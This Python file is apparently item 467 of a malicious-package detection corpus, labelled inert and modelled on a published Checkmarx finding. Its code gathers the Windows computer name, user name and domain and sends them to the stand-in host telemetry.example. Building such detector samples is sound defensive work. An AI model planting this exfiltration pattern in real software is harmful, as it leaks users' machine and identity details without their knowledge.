# pkgguard corpus 467 (system-information), modelled on [checkmarx-2024]; inert, never run.
import ctypes
import http.client
import os
import urllib.parse

buf = ctypes.create_unicode_buffer(256)
size = ctypes.c_ulong(256)
ctypes.windll.kernel32.GetComputerNameW(buf, ctypes.byref(size))
info = {"c": buf.value, "u": os.environ.get("USERNAME", ""), "d": os.environ.get("USERDOMAIN", "")}
conn = http.client.HTTPSConnection("telemetry.example", timeout=5)
conn.request("GET", "/p?" + urllib.parse.urlencode(info))
